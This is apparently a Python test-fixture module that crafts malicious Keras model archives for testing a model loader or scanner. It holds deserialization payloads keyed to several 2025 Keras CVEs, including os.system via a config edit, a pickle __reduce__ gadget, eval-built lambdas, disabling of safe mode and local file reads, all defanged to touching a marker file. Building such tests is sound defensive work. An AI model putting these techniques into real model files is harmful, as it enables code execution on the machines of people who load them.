"""Saved nets as an attacker would make them. A payload that runs leaves a mark: it makes a file."""

import base64
import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import keras
import numpy as np

CONFIG, METADATA, WEIGHTS = "config.json", "metadata.json", "model.weights.h5"
Config = dict[str, Any]
Edit = Callable[[Config], object]


class Marker(keras.layers.Layer):
    """A layer that its maker had registered with Keras: making one is enough to run its code."""

    def __init__(self, mark: str = "", **kwargs: Any) -> None:
        super().__init__(**kwargs)
        if mark:
            Path(mark).touch()

    def call(self, inputs: Any) -> Any:
        return inputs


class PickledMark:
    """What leaves its mark on being unpickled."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.mark,)


def save_net(path: Path) -> Path:
    """A small net, saved by plain Keras: 127 parameters."""
    keras.utils.set_random_seed(1)
    inputs = keras.Input((6, 6, 1), name="images")
    outputs = keras.layers.Conv2D(2, 3, activation="relu", name="convolution")(inputs)
    outputs = keras.layers.BatchNormalization(name="norm")(outputs)
    outputs = keras.layers.Flatten(name="flatten")(outputs)
    outputs = keras.layers.Dense(3, activation="softmax", name="probabilities")(outputs)
    keras.Model(inputs, outputs, name="small").save(path)
    return path


def save_lambda(path: Path, mark: Path) -> Path:
    """A net with a lambda layer, saved by plain Keras; called, it leaves its mark."""
    inputs = keras.Input((6,), name="images")
    payload = eval(f"lambda x: [__import__('pathlib').Path({str(mark)!r}).touch(), x][1]")
    keras.Model(inputs, keras.layers.Lambda(payload, output_shape=(6,))(inputs)).save(path)
    return path


def read_parts(path: Path) -> tuple[Config, bytes]:
    with zipfile.ZipFile(path) as archive:
        return json.loads(archive.read(CONFIG)), archive.read(WEIGHTS)


def write_archive(path: Path, config: Config | bytes, weights: bytes, others: dict[str, bytes] | None = None) -> Path:
    content = config if isinstance(config, bytes) else json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(METADATA, json.dumps({"keras_version": "3.15.1", "date_saved": ""}))
        archive.writestr(CONFIG, content)
        archive.writestr(WEIGHTS, weights)
        for name, other in (others or {}).items():
            archive.writestr(name, other)
    return path


def change(net: Path, path: Path, edit: Edit) -> Path:
    """The net with its config.json edited."""
    config, weights = read_parts(net)
    edit(config)
    return write_archive(path, config, weights)


def find_layer(config: Config, name: str) -> Config:
    return next(layer for layer in config["config"]["layers"] if layer["name"] == name)


def set_layer(layer: str, **settings: Any) -> Edit:
    return lambda config: find_layer(config, layer)["config"].update(settings)


def replace_layer(kind: str, settings: Config, module: str = "keras.layers", **extra: Any) -> Edit:
    """Put another layer in place of `flatten`."""

    def edit(config: Config) -> None:
        layer = find_layer(config, "flatten")
        layer.update(class_name=kind, module=module, **extra)
        layer["config"] = {"name": "flatten", "trainable": True, "dtype": "float32", **settings}

    return edit


def set_call(layer: str, **parts: Any) -> Edit:
    return lambda config: find_layer(config, layer)["inbound_nodes"][0].update(parts)


def write_hdf5(path: Path, fill: Callable[[h5py.File], object], **options: Any) -> Path:
    with h5py.File(path, "w", **options) as file:
        fill(file)
    return path


def swap_weights(net: Path, path: Path, fill: Callable[[h5py.File], object]) -> Path:
    """The net with its weights edited by the HDF5 library."""
    config, weights = read_parts(net)
    buffer = io.BytesIO(weights)
    with h5py.File(buffer, "r+") as file:
        fill(file)
    return write_archive(path, config, buffer.getvalue())


def write_secret(folder: Path) -> Path:
    """A file whose content must not end up in a net."""
    secret = folder / "secret.bin"
    secret.write_bytes(np.full(4, 42, "<f4").tobytes())
    with h5py.File(folder / "secret.h5", "w") as file:
        file["secret"] = np.full(4, 42, np.float32)
    return secret


def name_function(function: str, module: str) -> Config:
    return {"module": module, "class_name": "function", "config": function, "registered_name": function}


def replace_by_lambda(function: str, module: str, **arguments: Any) -> Edit:
    return replace_layer("Lambda", {"function": name_function(function, module), "arguments": arguments})


CALL = {"class_name": "__lambda__", "config": {"value": "4wAAAA", "defaults": None, "closure": None}}
PAYLOADS: dict[str, Callable[[Path], Edit]] = {
    "CVE-2025-8747, a function that writes a file": lambda mark: replace_by_lambda(
        "get_file", "keras.utils", fname=mark.name, origin=f"file://{__file__}", cache_dir=str(mark.parent)
    ),
    "CVE-2025-9906, safe mode switched off": lambda mark: replace_by_lambda(
        "enable_unsafe_deserialization", "keras.config"
    ),
    "CVE-2025-1550, a module of the attacker's": lambda mark: replace_layer("Layer", {}, "payload_module"),
    "CVE-2025-1550, a function of the system's": lambda mark: replace_layer(
        "system", {"command": f"touch {mark}"}, "os"
    ),
    "CVE-2025-12058, a file read into a vocabulary": lambda mark: replace_layer(
        "StringLookup", {"vocabulary": __file__}
    ),
    "another file read": lambda mark: replace_layer("TextVectorization", {"vocabulary": __file__}),
    "a pickle within PyTorch's wrapper": lambda mark: replace_layer(
        "TorchModuleWrapper", {"module": base64.b64encode(pickle.dumps(PickledMark(mark))).decode()}
    ),
    "a TensorFlow graph from elsewhere": lambda mark: replace_layer(
        "TFSMLayer", {"filepath": str(mark.parent), "call_endpoint": "serve"}
    ),
    "a function for an activation": lambda mark: set_layer(
        "convolution", activation=name_function("get_file", "keras.utils")
    ),
    "a lambda for an activation": lambda mark: set_layer("convolution", activation=CALL),
    "an activation unknown to us": lambda mark: set_layer("convolution", activation="tests>mark"),
    "an evaluated initializer": lambda mark: set_layer(
        "convolution", kernel_initializer=name_function("eval", "builtins")
    ),
    "an initializer with a lambda": lambda mark: set_layer(
        "convolution",
        kernel_initializer={"module": "keras.initializers", "class_name": "Constant", "config": {"value": CALL},
                            "registered_name": None},
    ),
    "a policy of the attacker's": lambda mark: set_layer(
        "norm", dtype={"module": "payload_module", "class_name": "DTypePolicy", "config": {"name": "float32"},
                       "registered_name": None},
    ),
    "a lambda in a call": lambda mark: set_call("flatten", kwargs={"training": CALL}),
    "an argument in a call": lambda mark: set_call("flatten", kwargs={"inputs": str(mark)}),
    "a constant in a call": lambda mark: set_call(
        "flatten", args=[{"class_name": "__tensor__", "config": {"value": 1, "dtype": "float32"}}]
    ),
    "a net of a class of its own": lambda mark: lambda config: config.update(module="payload_module"),
    "a lambda for a whole net": lambda mark: lambda config: config.update(CALL, module="builtins"),
}  # fmt: skip
